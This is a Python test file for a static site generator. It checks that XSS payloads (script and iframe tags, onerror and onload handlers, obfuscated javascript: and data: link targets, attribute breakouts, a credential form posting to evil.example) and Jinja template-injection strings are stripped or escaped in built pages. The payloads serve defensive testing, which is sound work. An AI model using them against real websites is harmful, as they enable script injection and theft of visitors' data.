"""Cases 25 to 28 and 30 of docs/hostile-inputs.md, on built pages.

Bodies: raw HTML that runs or hides things is removed and the text around it stays (25);
dangerous link targets lose their href (26); attr_list attributes are stripped (27); Jinja
syntax is shown as written, never evaluated (28). Front matter: a value that closes an
attribute and opens a script is escaped in every place a page shows it (30). And on every
page: exactly one h1 (bodies' headings shift down), and links to other hosts carry noopener.
"""

from __future__ import annotations

import json
import re
from urllib.parse import urlsplit

import pytest
from conftest import BUILD_DATE, VALID_PROFILE, write_site
from outputs import ADDRESS, Element, built, html_pages, page_of, parse

from sitegen.terms import fold

NAME = '"><script>alert(1)</script>'
ROLE = "<img src=x onerror=alert(2)>"
SUMMARY = "</title><script>alert(3)</script>"
FIELD = '"><svg onload=alert(4)>'
SKILL = "<script>alert(5)</script>"
TITLE = "'><iframe src=javascript:alert(6)>"
LOCATION = "<style>body{display:none}</style>"
CONTACT_NAME = '<a href="javascript:alert(7)">Klik</a>'
JINJA_TITLE = "Rekenen: {{ 7*7 }} {% if true %}ja{% endif %}"

# Case 25: each payload sits between two words that must stay; the element and its marker go.
REMOVED = {
    "script": "<script>alert('BODYSCRIPT')</script>",
    "iframe": "<iframe src='https://evil.example/'>BODYIFRAME</iframe>",
    "style": "<style>body{display:none} .BODYSTYLE{}</style>",
    "form": "<form action='https://evil.example/steel'><input name=wachtwoord></form>",
    "img": '<img src="x" onerror="alert(\'BODYIMG\')">',
    "svg": "<svg onload=\"alert('BODYSVG')\"><script>alert('BODYSVGSCRIPT')</script></svg>",
    "object": "<object data='https://evil.example/x.swf'>BODYOBJECT</object>",
    "comment": "<!-- BODYCOMMENT -->",
}
# Tags that Python-Markdown does not take for HTML (an unquoted attribute with parentheses): it
# escapes them, so they show as text. No element is made; that is the safe rendering too.
AS_TEXT = {
    "unquoted-img": "<img src=x onerror=alert('BODYUNQUOTED')>",
    "unquoted-b": "<b onclick=alert('BODYBOLD')>vet</b>",  # its closing tag is HTML: removed
}
SHOWN = {"unquoted-img": AS_TEXT["unquoted-img"], "unquoted-b": "<b onclick=alert('BODYBOLD')>vet"}
# Case 26: every one of these targets is removed.
BAD_TARGETS = {
    "javascript": "javascript:alert('L1')",
    "entity": "&#106;avascript:alert('L2')",
    "hex entity": "&#x6A;avascript:alert('L3')",
    "upper case": "JAVASCRIPT:alert('L4')",
    "mixed case": "JaVaScRiPt:alert('L5')",
    "tab inside": "java&#x09;script:alert('L6')",
    "data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgnTDgnKTwvc2NyaXB0Pg==",
    "vbscript": "vbscript:msgbox('L9')",
    "upper vbscript": "VBScript:msgbox('L10')",
}
LINKS = "\n".join(f"- [Link {how}]({target})" for how, target in BAD_TARGETS.items())

BODY = "\n\n".join(
    [
        "# Mijn verhaal",
        *(f"Voor-{tag} {payload} na-{tag}." for tag, payload in (REMOVED | AS_TEXT).items()),
        LINKS,
        "[Referentie][slecht] en <a href=\"javascript:alert('L11')\" onclick=\"alert('L12')\">rauw</a>.\n\n"
        "[slecht]: javascript:alert('L13')",
        'Alinea met attributen\n{: onclick="alert(\'A1\')" style="color:red" #eigen-id .eigen-klasse }',
        "## Kop met attributen {: onmouseover=\"alert('A2')\" }",
        "Setext-kop\n==========",
        "<h1>Rauwe kop</h1>",
        "{{ 7*7 }}",
        "{% raw %}{{ 7*7 }}{% endraw %} en {{ config.items() }} en {% for x in range(3) %}{{ x }}{% endfor %}",
        "Naar [de buren](https://buren.example.org/pad) of <https://autolink.example.org/>.",
    ]
)

PROFILE = f"""\
---
name: {json.dumps(NAME)}
role: {json.dumps(ROLE)}
organisation: gemeente-tilburg
fields: [{json.dumps(FIELD)}]
skills: [{json.dumps(SKILL)}, verbindend]
consent: 2026-03-01
summary: {json.dumps(SUMMARY)}
region: {json.dumps(NAME)}
experience:
  - role: {json.dumps(SKILL)}
    organisation: {json.dumps(ROLE)}
    from: 2020
contact:
  email: o'brien+co@example.org
  website: https://www.example.com/"quote"
---

{BODY}
"""

ASSIGNMENT = f"""\
---
title: {json.dumps(TITLE)}
organisation: gemeente-tilburg
fields: [{json.dumps(FIELD)}]
skills: [{json.dumps(SKILL)}]
posted: 2026-11-01
deadline: 2026-12-20
summary: {json.dumps(SUMMARY)}
location: {json.dumps(LOCATION)}
contact:
  name: {json.dumps(CONTACT_NAME)}
  email: klus@example.org
---

{BODY}
"""

PAGE = f"""\
---
title: {json.dumps(JINJA_TITLE)}
description: {json.dumps(NAME)}
menu: 1
---

{BODY}
"""

SLUG = "kwaadwillend"


@pytest.fixture(scope="module")
def output(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    folder = tmp_path_factory.mktemp("markup")
    site = write_site(
        folder / "site",
        {
            f"content/profiles/{SLUG}.md": PROFILE,
            "content/profiles/anna-de-vries.md": VALID_PROFILE,
            "content/assignments/kwaadwillende-klus.md": ASSIGNMENT,
            "content/pages/rekenen.md": PAGE,
        },
    )
    return built(site, folder / "out", BUILD_DATE)


@pytest.fixture(scope="module")
def pages(output: dict[str, bytes]) -> dict[str, str]:
    return html_pages(output)


HOSTILE_PAGES = {
    "profile": page_of(ADDRESS.profile(SLUG)),
    "assignment": page_of(ADDRESS.assignment("kwaadwillende-klus")),
    "page": page_of(ADDRESS.page("rekenen")),
}


def main_text(page: str) -> str:
    [main] = parse(page).find("main")
    return main.text


def all_elements(pages: dict[str, str]) -> list[tuple[str, Element]]:
    return [(path, element) for path, text in pages.items() for element in parse(text).elements]


# ---------------------------------------------------------------------------------------------
# Case 25: raw HTML


@pytest.mark.parametrize("kind", sorted(HOSTILE_PAGES))
@pytest.mark.parametrize("tag", sorted(REMOVED))
def test_25_raw_html_is_removed_and_the_text_stays(pages: dict[str, str], kind: str, tag: str) -> None:
    page = pages[HOSTILE_PAGES[kind]]
    text = main_text(page)
    assert f"Voor-{tag}" in text
    assert f"na-{tag}" in text
    assert f"BODY{tag.upper()}" not in page


@pytest.mark.parametrize("kind", sorted(HOSTILE_PAGES))
@pytest.mark.parametrize("tag", sorted(AS_TEXT))
def test_25_tags_markdown_does_not_parse_show_as_text(pages: dict[str, str], kind: str, tag: str) -> None:
    text = main_text(pages[HOSTILE_PAGES[kind]])
    assert f"Voor-{tag} {SHOWN[tag]} na-{tag}." in text


# The profile form page is the theme's own form (a trusted template): its fields and its script
# are expected there, and nowhere else; it holds no member's text (tests/test_profile_form.py).
FORM_PAGE = page_of(ADDRESS.profile_form())
DATA_BLOCK_TYPES = {"application/ld+json", "application/json"}


def test_25_no_dangerous_element_on_any_page(pages: dict[str, str]) -> None:
    found = {
        (path, e.tag)
        for path, e in all_elements(pages)
        if e.tag in {"iframe", "style", "object", "embed", "input", "textarea", "select"}
        and path != FORM_PAGE
        and not (e.tag == "input" and e.attributes.get("type") == "search")
    }
    assert found == set()
    scripts = {
        (path, e.attributes.get("src") or "")
        for path, e in all_elements(pages)
        if e.tag == "script" and e.attributes.get("type") not in DATA_BLOCK_TYPES
    }
    assert {path for path, _ in scripts} == {page_of(ADDRESS.search()), FORM_PAGE}
    assert all(re.fullmatch(r"/assets/js/(search|profile-form)\.[0-9a-f]{10}\.js", src) for _, src in scripts)
    forms = {
        (e.attributes.get("action"), e.attributes.get("method"))
        for path, e in all_elements(pages)
        if e.tag == "form" and path != FORM_PAGE
    }
    assert forms == {(ADDRESS.href(ADDRESS.search()), "get")}
    images = {e.attributes.get("src") for _, e in all_elements(pages) if e.tag == "img"}
    assert images == set()  # no photos here, and bodies never show images


def test_25_no_event_handler_or_style_attribute(pages: dict[str, str]) -> None:
    found = {
        (path, e.tag, name)
        for path, e in all_elements(pages)
        for name in e.attributes
        if name.startswith("on") or name == "style"
    }
    assert found == set()
    assert [e.tag for _, e in all_elements(pages) if e.tag in {"b", "img"}] == []
    assert {e.attributes.get("class") for _, e in all_elements(pages) if e.tag == "svg"} == {"avatar"}


def test_25_no_unescaped_script_text(output: dict[str, bytes]) -> None:
    for path, data in output.items():
        if path.endswith((".html", ".xml", ".txt")):
            text = data.decode("utf-8")
            # Scripts are the theme's files; data blocks (JSON-LD, the form's rules) carry no '<' at all,
            # so no value can close them.
            theirs = (
                r"<script(?! src=\"/assets/js/(?:search|profile-form)\.[0-9a-f]{10}\.js\" defer>)"
                r"(?! type=\"application/)"
            )
            assert re.findall(theirs, text) == [], path
            for block in re.findall(r'<script type="application/(?:ld\+)?json"[^>]*>(.*?)</script>', text, re.S):
                assert "<" not in block, path
            assert "<svg onload" not in text and "<img src=x" not in text and "</title><script" not in text, path


# ---------------------------------------------------------------------------------------------
# Case 26: link targets


def test_26_every_link_has_a_safe_scheme(pages: dict[str, str]) -> None:
    schemes = {
        urlsplit(value).scheme
        for _, e in all_elements(pages)
        for name, value in e.attributes.items()
        if name in {"href", "src", "action"} and value
    }
    assert schemes <= {"", "https", "mailto", "tel"}


@pytest.mark.parametrize("kind", sorted(HOSTILE_PAGES))
def test_26_bad_targets_lose_their_href(pages: dict[str, str], kind: str) -> None:
    anchors = {e.text: e.attributes for e in parse(pages[HOSTILE_PAGES[kind]]).find("a")}
    for how in BAD_TARGETS:
        assert "href" not in anchors[f"Link {how}"], how
    assert "href" not in anchors["Referentie"]
    assert "href" not in anchors["rauw"] and "onclick" not in anchors["rauw"]
    page = pages[HOSTILE_PAGES[kind]]
    for number in (*range(1, 7), *range(8, 14)):
        assert f"L{number}'" not in page


# ---------------------------------------------------------------------------------------------
# Case 27: attr_list


@pytest.mark.parametrize("kind", sorted(HOSTILE_PAGES))
def test_27_attr_list_attributes_are_stripped(pages: dict[str, str], kind: str) -> None:
    page = pages[HOSTILE_PAGES[kind]]
    [paragraph] = [e for e in parse(page).find("p") if e.text.startswith("Alinea met attributen")]
    assert paragraph.attributes == {}
    [heading] = [e for e in parse(page).elements if e.text.startswith("Kop met attributen") and e.tag.startswith("h")]
    assert heading.attributes == {}
    for text in ("'A1'", "'A2'", "eigen-id", "eigen-klasse", "color:red"):
        assert text not in page


# ---------------------------------------------------------------------------------------------
# Case 28: Jinja syntax is text


@pytest.mark.parametrize("kind", sorted(HOSTILE_PAGES))
def test_28_jinja_in_a_body_is_shown_as_written(pages: dict[str, str], kind: str) -> None:
    text = main_text(pages[HOSTILE_PAGES[kind]])
    assert "{{ 7*7 }}" in text
    assert "{% raw %}" in text and "{% endraw %}" in text
    assert "{{ config.items() }}" in text
    assert "{% for x in range(3) %}{{ x }}{% endfor %}" in text
    assert "49" not in text
    assert "012" not in text


def test_28_jinja_in_front_matter_is_shown_as_written(pages: dict[str, str]) -> None:
    page = pages[HOSTILE_PAGES["page"]]
    [h1] = parse(page).find("h1")
    assert h1.text == JINJA_TITLE
    [title] = parse(page).find("title")
    assert title.text == f"{JINJA_TITLE} - Testnetwerk"
    footer_links = [e.text for e in parse(pages["index.html"]).find("a")]
    assert JINJA_TITLE in footer_links


# ---------------------------------------------------------------------------------------------
# Case 30: front matter that tries to break out of its context


def test_30_profile_name_is_escaped_everywhere(pages: dict[str, str]) -> None:
    profile = parse(pages[HOSTILE_PAGES["profile"]])
    [title] = profile.find("title")
    assert title.text == f"{NAME} - Testnetwerk"
    [h1] = profile.find("h1")
    assert h1.text.strip() == NAME
    [description] = profile.find("meta", name="description")
    assert description.attributes["content"] == SUMMARY
    assert [e.text for e in profile.find("p", **{"class": "role"})] == [f"{ROLE}, Gemeente Tilburg"]
    assert [e.attributes.get("alt") for e in profile.find("img")] == []  # no photo: initials instead
    assert 'href="mailto:o&#39;brien+co@example.org"' in pages[HOSTILE_PAGES["profile"]]
    assert 'href="https://www.example.com/&#34;quote&#34;"' in pages[HOSTILE_PAGES["profile"]]


@pytest.mark.parametrize(
    "listing",
    [
        "index.html",
        page_of(ADDRESS.listing("profiles")),
        page_of(ADDRESS.term("fields", fold(FIELD))),
        page_of(ADDRESS.term("skills", fold(SKILL))),
        page_of(ADDRESS.term("regions", fold(NAME))),
        page_of(ADDRESS.term("organisations", "gemeente-tilburg")),
    ],
)
def test_30_cards_show_the_name_as_text(pages: dict[str, str], listing: str) -> None:
    titles = [e.text.strip() for e in parse(pages[listing]).elements if e.attributes.get("class") == "card-title"]
    assert NAME in titles


def test_30_term_pages_show_terms_as_text(pages: dict[str, str]) -> None:
    for kind, value in (("fields", FIELD), ("skills", SKILL), ("regions", NAME)):
        page = parse(pages[page_of(ADDRESS.term(kind, fold(value)))])
        [h1] = page.find("h1")
        assert h1.text == value
        [title] = page.find("title")
        assert title.text == f"{value} - Testnetwerk"
        index = parse(pages[page_of(ADDRESS.taxonomy(kind))])
        assert value in [e.text for e in index.find("a")]


def test_30_assignment_values_are_escaped(pages: dict[str, str]) -> None:
    assignment = parse(pages[HOSTILE_PAGES["assignment"]])
    [h1] = assignment.find("h1")
    assert h1.text.strip() == TITLE
    [description] = assignment.find("meta", name="description")
    assert description.attributes["content"] == SUMMARY
    assert LOCATION in [e.text for e in assignment.find("dd")]
    assert CONTACT_NAME in [e.text for e in assignment.find("li")]
    cards = parse(pages[page_of(ADDRESS.listing("assignments"))])
    assert TITLE in [e.text.strip() for e in cards.elements if e.attributes.get("class") == "card-title"]


def test_30_page_description_is_escaped(pages: dict[str, str]) -> None:
    [description] = parse(pages[HOSTILE_PAGES["page"]]).find("meta", name="description")
    assert description.attributes["content"] == NAME


def test_30_search_documents_keep_the_exact_text(output: dict[str, bytes]) -> None:
    [documents] = [data for path, data in output.items() if path.startswith("zoeken/documents.")]
    titles = {document["t"] for document in json.loads(documents)}
    assert {NAME, TITLE} <= titles


# ---------------------------------------------------------------------------------------------
# Every page: one h1, and noopener on links to other hosts


def test_every_page_has_exactly_one_h1(pages: dict[str, str]) -> None:
    counts = {path: len(parse(text).find("h1")) for path, text in pages.items()}
    assert {path: count for path, count in counts.items() if count != 1} == {}
    assert len(counts) > 15


@pytest.mark.parametrize(("kind", "level"), [("assignment", 2), ("page", 2), ("profile", 3)])
def test_body_headings_shift_down(pages: dict[str, str], kind: str, level: int) -> None:
    """A body's '#' is the page's h2, or h3 on a profile, whose story sits below its own h2."""
    headings = [(e.tag, e.text) for e in parse(pages[HOSTILE_PAGES[kind]]).elements if re.fullmatch(r"h[1-6]", e.tag)]
    for text in ("Mijn verhaal", "Setext-kop", "Rauwe kop"):
        assert (f"h{level}", text) in headings
    assert (f"h{level + 1}", "Kop met attributen") in headings


def test_links_to_other_hosts_have_noopener(pages: dict[str, str]) -> None:
    external = [
        (path, e)
        for path, e in all_elements(pages)
        if e.tag == "a" and urlsplit(e.attributes.get("href") or "").netloc not in {"", "example.org"}
    ]
    hosts = {urlsplit(e.attributes["href"] or "").netloc for _, e in external}
    assert {"buren.example.org", "autolink.example.org", "www.example.com", "www.tilburg.nl"} <= hosts
    missing = {
        (path, e.attributes["href"])
        for path, e in external
        if "noopener" not in (e.attributes.get("rel") or "").split()
    }
    assert missing == set()
